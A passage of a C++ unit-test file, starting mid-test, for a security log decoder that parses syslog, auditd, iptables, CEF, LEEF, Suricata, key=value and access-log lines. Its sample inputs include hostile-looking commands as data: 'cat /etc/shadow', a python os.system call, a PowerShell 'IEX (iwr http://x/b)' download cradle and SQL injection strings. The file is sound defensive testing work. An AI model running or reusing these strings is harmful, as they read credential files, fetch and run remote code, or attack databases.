    EXPECT_EQ(ok["outcome"], "success");
    auto old = Decode("Nov 20 03:20:26 srv01 su[6026]: FAILED su for root by alice");
    EXPECT_EQ(old["user"], "root");
    EXPECT_EQ(old["src_user"], "alice");
    EXPECT_EQ(old["outcome"], "failure");
}

TEST(Syslog, ServicesOfCrontabAndTheWebServers) {
    EXPECT_EQ(
        Decode("Nov 20 02:20:09 srv01 crontab[4412]: (root) REPLACE (root)").ev.logsource.service,
        "cron");
    EXPECT_EQ(Decode("Nov 20 03:40:01 web01 nginx: 2026/11/20 03:40:01 [alert] 1021#1021: "
                     "worker process 1044 exited on signal 6 (core dumped)")
                  .ev.logsource.service,
              "nginx");
    for (const char* program : {"apache2[998]", "httpd[998]"}) {
        EXPECT_EQ(Decode(std::string("Nov 20 03:40:02 web01 ") + program +
                         ": [core:notice] AH00052: child pid 1200 exit signal Segmentation Fault")
                      .ev.logsource.service,
                  "apache")
            << program;
    }
}

TEST(Auditd, OneRecordWithHexValues) {
    auto d = Decode(
        "type=PROCTITLE msg=audit(1795000000.120:901): "
        "proctitle=636174002F6574632F736861646F77");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.format, Format::kAuditd);
    EXPECT_EQ(d["type"], "PROCTITLE");
    EXPECT_EQ(d["proctitle"], "cat /etc/shadow");
    EXPECT_EQ(d["serial"], "901");
    EXPECT_EQ(d.time(), FormatTimestamp(1795000000120000000LL));
    EXPECT_EQ(d.ev.logsource.service, "auditd");
}

TEST(Auditd, RecordsOfOneEventAreGrouped) {
    LineDecoder dec({.now_ns = kNow});
    AuditdAssembler asm_(dec);
    std::vector<event::Event> out;
    const char* lines[] = {
        "type=SYSCALL msg=audit(1795000000.120:901): arch=c000003e syscall=59 success=yes "
        "exit=0 a0=55d0c1a0 a1=55d0c1b0 a2=55d0c1c0 a3=8 items=2 ppid=2001 pid=2002 auid=1000 "
        "uid=0 gid=0 euid=0 tty=pts0 ses=4 comm=\"chmod\" exe=\"/usr/bin/chmod\" key=\"perm\"",
        "type=EXECVE msg=audit(1795000000.120:901): argc=3 a0=\"chmod\" a1=\"777\" "
        "a2=2F746D702F6D7920646972",
        "type=CWD msg=audit(1795000000.120:901): cwd=\"/root\"",
        "type=PATH msg=audit(1795000000.120:901): item=0 name=\"/usr/bin/chmod\" inode=4 "
        "nametype=NORMAL",
        "type=PATH msg=audit(1795000000.120:901): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" "
        "nametype=NORMAL",
        "type=PROCTITLE msg=audit(1795000000.120:901): "
        "proctitle=63686D6F6400373737002F746D702F6D7920646972",
        "type=EOE msg=audit(1795000000.120:901):",
        "type=USER_AUTH msg=audit(1795000001.000:902): pid=3000 uid=0 auid=4294967295 "
        "ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"mallory\" "
        "exe=\"/usr/sbin/sshd\" hostname=203.0.113.45 addr=203.0.113.45 terminal=ssh res=failed'",
        "type=ADD_USER msg=audit(1795000002.000:903): pid=3100 uid=0 msg='op=adding user "
        "id=1001 exe=\"/usr/sbin/useradd\" res=success'",
    };
    for (const char* l : lines) ASSERT_TRUE(asm_.Add(l, out)) << l;
    ASSERT_EQ(out.size(), 2u);  // 901 by its EOE, 902 when 903 began
    asm_.Flush(out);
    ASSERT_EQ(out.size(), 3u);

    const event::Event& e = out[0];
    auto all = [&](std::string_view n) {
        std::vector<std::string> v;
        for (size_t i = 0; i < e.size(); ++i)
            if (e.field(i).name == n) v.emplace_back(e.field(i).value);
        return v;
    };
    EXPECT_EQ(all("type"),
              (std::vector<std::string>{"SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"}));
    EXPECT_EQ(e.Get("SYSCALL"), "execve");
    EXPECT_EQ(e.Get("exe"), "/usr/bin/chmod");
    EXPECT_EQ(all("a1"), (std::vector<std::string>{"55d0c1b0", "777"}));
    EXPECT_EQ(all("a2")[1], "/tmp/my dir");
    EXPECT_EQ(e.Get("proctitle"), "chmod 777 /tmp/my dir");
    EXPECT_EQ(all("name"),
              (std::vector<std::string>{"/usr/bin/chmod", "/lib64/ld-linux-x86-64.so.2"}));
    EXPECT_EQ(e.Get("CommandLine"), "chmod 777 /tmp/my dir");
    EXPECT_EQ(e.Get("Image"), "/usr/bin/chmod");
    EXPECT_EQ(e.Get("CurrentDirectory"), "/root");
    EXPECT_EQ(e.Get("ProcessId"), "2002");
    EXPECT_EQ(e.Get("ParentProcessId"), "2001");
    EXPECT_EQ(e.logsource.Key(), "linux/auditd/process_creation");
    EXPECT_EQ(e.time_ns, 1795000000120000000LL);

    const event::Event& u = out[1];
    EXPECT_EQ(u.Get("type"), "USER_AUTH");
    EXPECT_EQ(u.Get("acct"), "mallory");
    EXPECT_EQ(u.Get("res"), "failed");
    EXPECT_EQ(u.Get("addr"), "203.0.113.45");
    EXPECT_EQ(u.logsource.Key(), "linux/auditd/");
    EXPECT_EQ(out[2].Get("type"), "ADD_USER");
}

// The ingest pipeline joins the records of one event into one message (ingest/audit_join.h):
// decoding it gives the event the assembler builds, bare or with a syslog header per record.
TEST(Auditd, AJoinedMessageDecodesAsOneEvent) {
    const std::vector<std::string> records = {
        "type=SYSCALL msg=audit(1795000000.120:901): arch=c000003e syscall=59 success=yes "
        "ppid=2001 pid=2002 uid=0 comm=\"chmod\" exe=\"/usr/bin/chmod\"",
        "type=EXECVE msg=audit(1795000000.120:901): argc=3 a0=\"chmod\" a1=\"777\" "
        "a2=2F746D702F6D7920646972",
        "type=CWD msg=audit(1795000000.120:901): cwd=\"/root\"",
        "type=PATH msg=audit(1795000000.120:901): item=0 name=\"/usr/bin/chmod\"",
        "type=EOE msg=audit(1795000000.120:901): ",
    };
    for (const std::string prefix : {"", "<14>Nov 20 10:00:00 db01 audispd: node=db01 "}) {
        std::string joined;
        for (const auto& r : records) joined += (joined.empty() ? "" : "\n") + prefix + r;
        auto d = Decode(joined);
        ASSERT_TRUE(d.status) << Error(d);
        EXPECT_EQ(d.all("type"), (std::vector<std::string>{"SYSCALL", "EXECVE", "CWD", "PATH"}))
            << prefix;
        EXPECT_EQ(d["CommandLine"], "chmod 777 /tmp/my dir");
        EXPECT_EQ(d["Image"], "/usr/bin/chmod");
        EXPECT_EQ(d["CurrentDirectory"], "/root");
        EXPECT_EQ(d["name"], "/usr/bin/chmod");
        EXPECT_EQ(d["serial"], "901");
        EXPECT_EQ(d.ev.logsource.Key(), "linux/auditd/process_creation");
        EXPECT_EQ(d.ev.message, joined);
        // Values taken verbatim point into the joined message (the store keeps slices).
        for (size_t i = 0; i < d.ev.size(); ++i) {
            const auto f = d.ev.field(i);
            if (f.line_offset == event::kNotInLine) continue;
            EXPECT_EQ(joined.substr(f.line_offset, f.value.size()), f.value) << f.name;
        }
    }
    EXPECT_EQ(Decode("<14>Nov 20 10:00:00 db01 audispd: node=db01 " + records[0] + "\n" +
                     "<14>Nov 20 10:00:00 db01 audispd: node=db01 " + records[1])["node"],
              "db01");
}

// The kernel splits a long argument into pieces (a1_len=N a1[0]=... a1[1]=...), and the pieces
// of one argument may end one EXECVE record and start the next: one a1 again, and a command line
// without a space inside the argument. Both ways of grouping (the assembler, a joined message).
TEST(Auditd, AnArgumentSplitAcrossExecveRecordsIsOneArgument) {
    const std::vector<std::string> records = {
        "type=SYSCALL msg=audit(1795000000.000:5100): arch=c000003e syscall=59 success=yes "
        "pid=6000 comm=\"python3\" exe=\"/usr/bin/python3.11\"",
        "type=EXECVE msg=audit(1795000000.000:5100): argc=3 a0=\"python3\" a1_len=23 "
        "a1[0]=\"-cimport os;os.sy\"",
        "type=EXECVE msg=audit(1795000000.000:5100): a1[1]=\"stem()\" a2=\"x\"",
        "type=EOE msg=audit(1795000000.000:5100):",
    };
    const std::string arg = "-cimport os;os.system()";
    LineDecoder dec({.now_ns = kNow});
    AuditdAssembler asm_(dec);
    std::vector<event::Event> out;
    for (const auto& r : records) ASSERT_TRUE(asm_.Add(r, out)) << r;
    ASSERT_EQ(out.size(), 1u);
    std::vector<std::string> a1;
    for (size_t i = 0; i < out[0].size(); ++i)
        if (out[0].field(i).name == "a1") a1.emplace_back(out[0].field(i).value);
    EXPECT_EQ(a1, (std::vector<std::string>{arg}));
    EXPECT_EQ(out[0].Get("a2"), "x");
    EXPECT_EQ(out[0].Get("CommandLine"), "python3 " + arg + " x");

    std::string joined;
    for (const auto& r : records) joined += (joined.empty() ? "" : "\n") + r;
    auto d = Decode(joined);
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.all("a1"), (std::vector<std::string>{arg}));
    EXPECT_EQ(d["CommandLine"], "python3 " + arg + " x");
}

TEST(Auditd, AssemblerBounds) {
    LineDecoder dec({.now_ns = kNow});
    AuditdAssembler asm_(dec, {.max_records = 3, .max_open = 2, .max_age_ns = 1'000'000'000});
    std::vector<event::Event> out;
    auto rec = [](int serial, double t) {
        return "type=SYSCALL msg=audit(" + std::to_string(t) + ":" + std::to_string(serial) +
               "): syscall=2";
    };
    for (int i = 0; i < 3; ++i) ASSERT_TRUE(asm_.Add(rec(1, 100.0), out));
    EXPECT_EQ(out.size(), 1u);  // max_records
    ASSERT_TRUE(asm_.Add(rec(2, 100.0), out));
    ASSERT_TRUE(asm_.Add(rec(3, 100.5), out));
    ASSERT_TRUE(asm_.Add(rec(4, 100.6), out));
    EXPECT_EQ(out.size(), 2u);  // max_open: 2 went
    ASSERT_TRUE(asm_.Add(rec(5, 105.0), out));
    EXPECT_EQ(out.size(), 4u);  // max_age: 3 and 4 went
    EXPECT_EQ(asm_.open(), 1u);
    EXPECT_FALSE(asm_.Add("not an audit record", out));
    EXPECT_EQ(asm_.open(), 1u);
}

TEST(Auditd, ViaSyslogAndKernelNumbers) {
    auto d = Decode(
        "Nov 20 03:00:00 db-01 audisp-syslog: node=db-01 type=EXECVE "
        "msg=audit(1795000000.500:77): argc=2 a0=\"uname\" a1=\"-a\"");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["type"], "EXECVE");
    EXPECT_EQ(d["a0"], "uname");
    EXPECT_EQ(d["node"], "db-01");
    EXPECT_EQ(d.ev.logsource.Key(), "linux/auditd/process_creation");

    auto k = Decode(
        "Nov 20 03:00:01 db-01 kernel: audit: type=1400 audit(1795000001.000:78): "
        "apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\" comm=\"cat\"");
    ASSERT_TRUE(k.status) << Error(k);
    EXPECT_EQ(k["type"], "AVC");
    EXPECT_EQ(k["apparmor"], "DENIED");
    EXPECT_EQ(k.ev.logsource.service, "auditd");

    // The same with the kernel's uptime stamp (printk's time on): it was an undecoded line.
    auto u = Decode(
        "Nov 20 03:00:01 db-01 kernel: [  123.456789] audit: type=1400 "
        "audit(1795000001.000:79): apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\"");
    ASSERT_TRUE(u.status) << Error(u);
    EXPECT_EQ(u["type"], "AVC");
    EXPECT_EQ(u["name"], "/etc/shadow");
    EXPECT_EQ(u.ev.logsource.service, "auditd");
}

TEST(Auditd, Malformed) {
    EXPECT_EQ(Error(Decode("type=SYSCALL msg=audit(12x:5): a=1", Format::kAuditd)),
              "auditd: at byte 23: bad TIME:SERIAL in msg=audit(");
    EXPECT_EQ(Error(Decode("type=SYSCALL arch=x", Format::kAuditd)),
              "auditd: at byte 13: expected msg=audit(TIME:SERIAL)");
    // Seconds past what a time holds (found by fuzzing: the nanoseconds overflowed).
    EXPECT_EQ(Error(Decode("type=SYSCALL msg=audit(99999999999.5:5): a=1", Format::kAuditd)),
              "auditd: at byte 23: TIME in msg=audit( is past the year 2262");
}

// --- netfilter ---

TEST(Iptables, KernelLogLines) {
    auto d = Decode(
        "Nov 20 04:00:00 gw kernel: [1234567.890123] [UFW BLOCK] IN=eth0 OUT= "
        "MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00 SRC=203.0.113.9 "
        "DST=198.51.100.2 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=54321 DF PROTO=TCP "
        "SPT=51234 DPT=23 WINDOW=64240 RES=0x00 SYN URGP=0");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["prefix"], "[UFW BLOCK]");
    EXPECT_EQ(d["IN"], "eth0");
    EXPECT_EQ(d["OUT"], "");
    EXPECT_EQ(d["src_ip"], "203.0.113.9");
    EXPECT_EQ(d["dst_ip"], "198.51.100.2");
    EXPECT_EQ(d["src_port"], "51234");
    EXPECT_EQ(d["dst_port"], "23");
    EXPECT_EQ(d["protocol"], "tcp");
    EXPECT_EQ(d["flags"], "DF SYN");
    EXPECT_EQ(d["action"], "drop");
    EXPECT_EQ(d["blocked"], "true");
    EXPECT_TRUE(d.ev.logsource.HasCategory("firewall"));

    // nftables' log statement, standalone (journalctl -k -o cat).
    auto n = Decode(
        "nft-accept-in: IN=ens3 OUT= SRC=2001:db8::1 DST=2001:db8::2 LEN=80 "
        "TC=0 HOPLIMIT=64 FLOWLBL=0 PROTO=TCP SPT=40000 DPT=80 WINDOW=1 SYN");
    ASSERT_TRUE(n.status) << Error(n);
    EXPECT_EQ(n.format, Format::kIptables);
    EXPECT_EQ(n["action"], "accept");
    EXPECT_EQ(n["blocked"], "false");
    EXPECT_EQ(n["dst_port"], "80");
    EXPECT_EQ(Error(Decode("SRC=1.2.3.4", Format::kIptables)),
              "iptables: at byte 0: expected IN= (a netfilter log line)");
}

// An ICMP error quotes the packet that caused it in brackets: its fields are that packet's,
// kept apart under icmp_inner., not the ICMP packet's own.
TEST(Iptables, IcmpErrorKeepsTheQuotedPacketApart) {
    auto d = Decode(
        "Nov 20 02:16:09 fw kernel: [DROP OUT] IN=eth0 OUT= SRC=203.0.113.13 DST=192.0.2.10 "
        "LEN=576 TOS=0x00 PREC=0x00 TTL=60 ID=4 PROTO=ICMP TYPE=3 CODE=3 [SRC=192.0.2.10 "
        "DST=203.0.113.13 LEN=548 TOS=0x00 PREC=0x00 TTL=64 ID=0 DF PROTO=UDP SPT=53 DPT=33434 "
        "LEN=528] MARK=0x1");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.all("src_ip"), (std::vector<std::string>{"203.0.113.13"}));
    EXPECT_EQ(d.all("dst_ip"), (std::vector<std::string>{"192.0.2.10"}));
    EXPECT_EQ(d.all("SRC"), (std::vector<std::string>{"203.0.113.13"}));
    EXPECT_EQ(d.all("LEN"), (std::vector<std::string>{"576"}));
    EXPECT_EQ(d["protocol"], "icmp");
    EXPECT_EQ(d["TYPE"], "3");
    EXPECT_FALSE(d.has("src_port"));
    EXPECT_FALSE(d.has("dst_port"));
    EXPECT_FALSE(d.has("flags"));
    EXPECT_FALSE(d.has("[SRC"));
    EXPECT_EQ(d["MARK"], "0x1");
    EXPECT_EQ(d["icmp_inner.SRC"], "192.0.2.10");
    EXPECT_EQ(d["icmp_inner.src_ip"], "192.0.2.10");
    EXPECT_EQ(d["icmp_inner.dst_ip"], "203.0.113.13");
    EXPECT_EQ(d["icmp_inner.protocol"], "udp");
    EXPECT_EQ(d["icmp_inner.src_port"], "53");
    EXPECT_EQ(d["icmp_inner.dst_port"], "33434");
    EXPECT_EQ(d.all("icmp_inner.LEN"), (std::vector<std::string>{"548", "528"}));
    EXPECT_EQ(d["icmp_inner.flags"], "DF");
    EXPECT_EQ(d["action"], "drop");

    // The kernel's own layout ends the quote with " ]"; a truncated quoted header says
    // "INCOMPLETE [n bytes]" inside it.
    auto k = Decode(
        "IN=eth0 OUT= SRC=2001:db8::1 DST=2001:db8::2 LEN=1280 PROTO=ICMPv6 TYPE=1 CODE=4 "
        "[SRC=2001:db8::2 DST=2001:db8::1 LEN=100 PROTO=TCP INCOMPLETE [8 bytes] ] "
        "MARK=0x0");
    ASSERT_TRUE(k.status) << Error(k);
    EXPECT_EQ(k.all("dst_ip"), (std::vector<std::string>{"2001:db8::2"}));
    EXPECT_EQ(k["icmp_inner.protocol"], "tcp");
    EXPECT_EQ(k["icmp_inner.flags"], "INCOMPLETE [8 bytes]");
    EXPECT_FALSE(k.has("flags"));
    EXPECT_EQ(k["MARK"], "0x0");
}

// --- CEF, LEEF, key=value ---

TEST(Cef, HeaderAndExtensionEscapes) {
    auto d = Decode(
        "CEF:0|Acme\\|Corp|Edge WAF|3.1|942100|SQL injection \\\\ blocked|8|"
        "src=203.0.113.5 dst=198.51.100.7 spt=40100 dpt=443 "
        "request=https://shop.example/find?q\\=1 union select act=blocked "
        "msg=two\\nlines cs1Label=Policy cs1=strict mode rt=1795000000000");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.format, Format::kCef);
    EXPECT_EQ(d["cefVersion"], "0");
    EXPECT_EQ(d["deviceVendor"], "Acme|Corp");
    EXPECT_EQ(d["deviceProduct"], "Edge WAF");
    EXPECT_EQ(d["deviceEventClassId"], "942100");
    EXPECT_EQ(d["name"], "SQL injection \\ blocked");
    EXPECT_EQ(d["severity"], "8");
    EXPECT_EQ(d["request"], "https://shop.example/find?q=1 union select");
    EXPECT_EQ(d["act"], "blocked");
    EXPECT_EQ(d["msg"], "two\nlines");
    EXPECT_EQ(d["cs1"], "strict mode");
    EXPECT_EQ(d["Policy"], "strict mode");
    EXPECT_EQ(d.ev.time_ns, 1795000000000000000LL);
    // Values without escapes are pieces of the line (the store keeps them as slices of the raw
    // text, the keyword scan reads them once); unescaped ones are copies.
    auto offset_of = [&](std::string_view name) {
        const int i = d.ev.Find(name);
        return i < 0 ? event::kNotInLine : d.ev.field(static_cast<size_t>(i)).line_offset;
    };
    EXPECT_NE(offset_of("deviceProduct"), event::kNotInLine);
    EXPECT_NE(offset_of("src"), event::kNotInLine);
    EXPECT_NE(offset_of("cs1"), event::kNotInLine);
    EXPECT_EQ(offset_of("deviceVendor"), event::kNotInLine);
    EXPECT_EQ(offset_of("request"), event::kNotInLine);

    auto s = Decode("<134>Nov 20 05:00:00 waf-01 CEF:0|Acme|WAF|1|1|x|3|src=192.0.2.1");
    ASSERT_TRUE(s.status) << Error(s);
    EXPECT_EQ(s["src"], "192.0.2.1");
    EXPECT_EQ(s["host"], "waf-01");
    EXPECT_EQ(s.ev.logsource.product, "");  // CEF carries no Sigma logsource
    // One severity, the device's; the PRI's under syslog.
    EXPECT_EQ(s.all("severity"), (std::vector<std::string>{"3"}));
    EXPECT_EQ(s["syslog.severity"], "info");
    EXPECT_EQ(s["syslog.facility"], "local0");
    EXPECT_FALSE(s.has("facility"));

    EXPECT_EQ(Error(Decode("CEF:0|Acme|WAF|1", Format::kCef)),
              "cef: at byte 16: expected 7 |-separated header fields, found 3");
    EXPECT_EQ(Error(Decode("CEF:0|a|b|c|d|e|f| =x", Format::kCef)),
              "cef: at byte 19: expected key=value in the extension");
}

// CEF's rt in the date forms its specification lists, and LEEF's devTime alike.
TEST(Cef, ReceiptTimeInDateForms) {
    const auto time_of = [](const std::string& rt, DecodeOptions opt = {}) {
        return Decode("CEF:0|V|IPS|1.0|100|Attack|8|rt=" + rt + " src=10.0.0.1", Format::kAuto, opt)
            .time();
    };
    EXPECT_EQ(time_of("1763712000123"), "2025-11-21T08:00:00.123Z");
    EXPECT_EQ(time_of("Nov 19 2026 08:02:46"), "2026-11-19T08:02:46.000Z");
    EXPECT_EQ(time_of("Nov 19 2026 08:02:46.250 UTC"), "2026-11-19T08:02:46.250Z");
    EXPECT_EQ(time_of("Nov 19 2026 16:02:46 +08:00"), "2026-11-19T08:02:46.000Z");
    EXPECT_EQ(time_of("Nov 19 08:02:46"), "2026-11-19T08:02:46.000Z");  // the year inferred
    DecodeOptions plus8;
    plus8.zone = *TimeZone::Parse("+08:00");
    EXPECT_EQ(time_of("Nov 19 2026 16:02:46", plus8), "2026-11-19T08:02:46.000Z");
    // A zone name that is not one zone, or no date: no time of the event's own.
    EXPECT_EQ(time_of("Nov 19 2026 08:02:46 CST"), "-");
    EXPECT_EQ(time_of("yesterday"), "-");
    EXPECT_EQ(Decode("LEEF:2.0|V|FW|1.0|deny|^|devTime=Nov 19 2026 08:02:46^devTimeFormat=MMM dd "
                     "yyyy HH:mm:ss^src=10.0.0.1")
                  .time(),
              "2026-11-19T08:02:46.000Z");
}

// Suricata's "grouped" DNS answers are answers too (Sigma's `answer`).
TEST(Suricata, GroupedDnsAnswers) {
    auto d = Decode(
        R"j({"timestamp":"2026-11-20T03:10:06.123456+0000","flow_id":1,"event_type":"dns",)j"
        R"j("src_ip":"10.0.0.2","dest_ip":"10.0.0.23","dns":{"version":2,"type":"answer",)j"
        R"j("rrname":"cfg.example","rrtype":"TXT","grouped":{"TXT":["IEX (iwr http://x/b)","v=1"],)j"
        R"j("A":["192.0.2.1"],"SOA":[{"mname":"ns.example"}]}}})j");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.all("answer"),
              (std::vector<std::string>{"IEX (iwr http://x/b)", "v=1", "192.0.2.1"}));
}

TEST(Leef, Versions1And2) {
    auto a = Decode(
        "LEEF:1.0|Acme|IDS|2.0|portscan|src=203.0.113.5\tdst=198.51.100.7\t"
        "usrName=svc backup\tdevTime=1795000000000");
    ASSERT_TRUE(a.status) << Error(a);
    EXPECT_EQ(a.format, Format::kLeef);
    EXPECT_EQ(a["deviceVendor"], "Acme");
    EXPECT_EQ(a["eventId"], "portscan");
    EXPECT_EQ(a["usrName"], "svc backup");
    EXPECT_EQ(a["dst"], "198.51.100.7");
    EXPECT_EQ(a.ev.time_ns, 1795000000000000000LL);

    auto b = Decode("LEEF:2.0|Acme|IDS|2.0|login|^|src=203.0.113.5^usrName=alice^result=fail");
    ASSERT_TRUE(b.status) << Error(b);
    EXPECT_EQ(b["usrName"], "alice");
    EXPECT_EQ(b["result"], "fail");
    auto c = Decode("LEEF:2.0|Acme|IDS|2.0|login|0x7C|a=1|b=2");
    EXPECT_EQ(c["b"], "2");
    EXPECT_EQ(Error(Decode("LEEF:2.0|Acme|IDS|2.0|login|0xZZ|a=1", Format::kLeef)),
              "leef: at byte 28: bad LEEF 2.0 delimiter '0xZZ'");
    // A delimiter past ASCII (U+00A6, broken bar), by its code: its UTF-8 form, or the byte in
    // a Latin-1 sender's text; a four-digit code; the character itself.
    for (const char* line : {"LEEF:2.0|Acme|IDS|2.0|login|xa6|a=1\xC2\xA6"
                             "b=caf\xC3\xA9\xC2\xA6"
                             "c=3",
                             "LEEF:2.0|Acme|IDS|2.0|login|0x00A6|a=1\xC2\xA6"
                             "b=caf\xC3\xA9\xC2\xA6"
                             "c=3",
                             "LEEF:2.0|Acme|IDS|2.0|login|\xC2\xA6|a=1\xC2\xA6"
                             "b=caf\xC3\xA9\xC2\xA6"
                             "c=3"}) {
        auto u = Decode(line);
        ASSERT_TRUE(u.status) << Error(u);
        EXPECT_EQ(u["a"], "1") << line;
        EXPECT_EQ(u["b"], "caf\xC3\xA9") << line;
        EXPECT_EQ(u["c"], "3") << line;
    }
    auto latin1 = Decode(
        "LEEF:2.0|Acme|IDS|2.0|login|xa6|a=1\xA6"
        "b=2");
    EXPECT_EQ(latin1["a"], "1");
    EXPECT_EQ(latin1["b"], "2");
    auto caret = Decode("LEEF:2.0|Acme|IDS|2.0|login|0x005E|a=1^b=2");
    EXPECT_EQ(caret["b"], "2");
    EXPECT_FALSE(caret.has("0x005E|a"));
}

TEST(Kv, PairsQuotesAndFortigate) {
    auto d = Decode(
        "date=2026-11-20 time=05:10:00 devname=\"FG-HQ\" devid=\"FG100F\" "
        "logid=\"0100032001\" type=\"event\" subtype=\"system\" user=\"admin\" "
        "msg=\"Administrator admin logged in successfully from https(10.0.0.9)\"");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.format, Format::kKv);
    EXPECT_EQ(d["devname"], "FG-HQ");
    EXPECT_EQ(d["msg"], "Administrator admin logged in successfully from https(10.0.0.9)");
    EXPECT_EQ(d.ev.logsource.product, "fortigate");
    EXPECT_EQ(d.ev.logsource.service, "event");

    auto s = Decode("level=warn component=backup note=disk almost full used=93", Format::kKv);
    EXPECT_EQ(s["note"], "disk almost full");
    EXPECT_EQ(s["used"], "93");
    EXPECT_EQ(Error(Decode("just words", Format::kKv)), "kv: at byte 0: expected key=value");
    EXPECT_EQ(Error(Decode("a=\"open", Format::kKv)), "kv: at byte 2: unterminated quote");
}

TEST(Kv, OverSyslogWithOrWithoutAHeader) {
    // FortiGate's syslog: a PRI and the pairs, no timestamp or host.
    auto f = Decode(
        "<189>date=2026-11-21 time=08:15:16 devname=\"FG-HQ\" devid=\"FG100F\" "
        "logid=\"0100032001\" type=\"event\" subtype=\"system\" user=\"alice\" "
        "srcip=10.1.2.3 msg=\"Administrator alice logged in successfully\"");
    ASSERT_TRUE(f.status) << Error(f);
    EXPECT_EQ(f.format, Format::kSyslog);
    EXPECT_EQ(f["user"], "alice");
    EXPECT_EQ(f["srcip"], "10.1.2.3");
    EXPECT_EQ(f["msg"], "Administrator alice logged in successfully");
    EXPECT_EQ(f["severity"], "notice");
    EXPECT_EQ(f.ev.logsource.product, "fortigate");  // the device's, not linux/syslog
    EXPECT_EQ(f.ev.logsource.service, "event");
    EXPECT_EQ(f.ev.time_ns, 0);     // date + time without tz: local time in an unknown zone
    EXPECT_EQ(f["host"], "FG-HQ");  // no header host: the device's own name

    // Its time: eventtime by its length, else date + time in tz.
    const std::string fg =
        "devid=FG100F logid=0000000013 type=traffic date=2026-11-21 "
        "time=08:15:16 tz=\"+0800\" ";
    EXPECT_EQ(Decode(fg, Format::kKv).ev.time_ns, *ParseTimestamp("2026-11-21T00:15:16Z"));
    EXPECT_EQ(Decode(fg + "eventtime=1795000000", Format::kKv).ev.time_ns, 1795000000000000000LL);
    EXPECT_EQ(Decode(fg + "eventtime=1795000000123", Format::kKv).ev.time_ns,
              1795000000123000000LL);
    EXPECT_EQ(Decode(fg + "eventtime=1795000000123456789", Format::kKv).ev.time_ns,
              1795000000123456789LL);
    EXPECT_EQ(Decode("devid=FG100F logid=1 type=event msg=x", Format::kKv).ev.time_ns, 0);
    // Out of range for nanoseconds since 1970: date + time + tz instead.
    EXPECT_EQ(Decode(fg + "eventtime=9999999999", Format::kKv).ev.time_ns,
              *ParseTimestamp("2026-11-21T00:15:16Z"));

    // Another device's pairs behind a BSD header: fields, and the syslog logsource kept.
    auto k = Decode("<134>Nov 21 08:15:16 nas01 level=warn component=backup used=93");
    ASSERT_TRUE(k.status) << Error(k);
    EXPECT_EQ(k["host"], "nas01");
    EXPECT_EQ(k["component"], "backup");
    EXPECT_EQ(k["used"], "93");
    EXPECT_EQ(k.ev.logsource.product, "linux");
    EXPECT_EQ(k.ev.logsource.service, "syslog");

    // A pair named like a header field does not stand before the header's: the host of a
    // logfmt line's request (host=) is not the sending host.
    auto l = Decode(
        "<134>Nov 21 08:15:16 web01 api: time=2026-11-21T08:15:16Z level=INFO msg=request "
        "method=GET host=attacker.example severity=debug path=/");
    ASSERT_TRUE(l.status) << Error(l);
    EXPECT_EQ(l["host"], "web01");
    EXPECT_EQ(l["severity"], "info");
    EXPECT_EQ(l["method"], "GET");
    EXPECT_EQ(l["path"], "/");

    // Pairs separated by ", " (sendmail): the comma is not part of the value.
    auto m = Decode(
        "<22>Nov 21 08:15:16 mx01 sm-mta[811]: STARTTLS=client, relay=mx.example.com., "
        "version=TLSv1.3, verify=OK, cipher=TLS_AES_256_GCM_SHA384, bits=256/256");
    ASSERT_TRUE(m.status) << Error(m);
    EXPECT_EQ(m["STARTTLS"], "client");
    EXPECT_EQ(m["relay"], "mx.example.com.");
    EXPECT_EQ(m["verify"], "OK");
    EXPECT_EQ(m["bits"], "256/256");

    // Pairs among words (slapd): an unquoted value ends at the first space, so the words
    // between pairs are not part of a value.
    auto o = Decode(
        "<134>Nov 21 10:00:01 ldap1 slapd[812]: conn=1001 fd=12 ACCEPT from IP=10.0.0.5:51234 "
        "(IP=0.0.0.0:389)");
    ASSERT_TRUE(o.status) << Error(o);
    EXPECT_EQ(o["conn"], "1001");
    EXPECT_EQ(o["fd"], "12");
    EXPECT_EQ(o["IP"], "10.0.0.5:51234");
    auto b = Decode(
        "<134>Nov 21 10:00:01 ldap1 slapd[812]: conn=1001 op=0 BIND dn=\"cn=admin,dc=example\" "
        "method=128");
    ASSERT_TRUE(b.status) << Error(b);
    EXPECT_EQ(b["op"], "0");
    EXPECT_EQ(b["dn"], "cn=admin,dc=example");
    EXPECT_EQ(b["method"], "128");
    EXPECT_EQ(b["message"], "conn=1001 op=0 BIND dn=\"cn=admin,dc=example\" method=128");

    // Text that is not pairs stays a message.
    auto t = Decode("<134>Nov 21 08:15:16 app01 started worker pool size=8 queue=64");
    ASSERT_TRUE(t.status) << Error(t);
    EXPECT_EQ(t["size"], "");
    EXPECT_EQ(t["message"], "started worker pool size=8 queue=64");
}

// --- access logs ---

TEST(Access, CombinedAndCommon) {
    auto d = Decode(
        "203.0.113.66 - - [20/Nov/2026:03:01:11 +0800] \"GET "
        "/accounts?id=1%20UNION%20SELECT%20password HTTP/1.1\" 500 1043 "
        "\"https://bank.example/\" \"Mozilla/5.0 (X11; \\\"quoted\\\" agent)\"");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.format, Format::kAccess);
    EXPECT_EQ(d["c-ip"], "203.0.113.66");
    EXPECT_EQ(d["cs-method"], "GET");
    EXPECT_EQ(d["cs-uri"], "/accounts?id=1%20UNION%20SELECT%20password");
    EXPECT_EQ(d["cs-uri-stem"], "/accounts");
    EXPECT_EQ(d["cs-uri-query"], "id=1%20UNION%20SELECT%20password");
    EXPECT_EQ(d["cs-version"], "HTTP/1.1");
    EXPECT_EQ(d["sc-status"], "500");
    EXPECT_EQ(d["sc-bytes"], "1043");
    EXPECT_EQ(d["cs-referer"], "https://bank.example/");
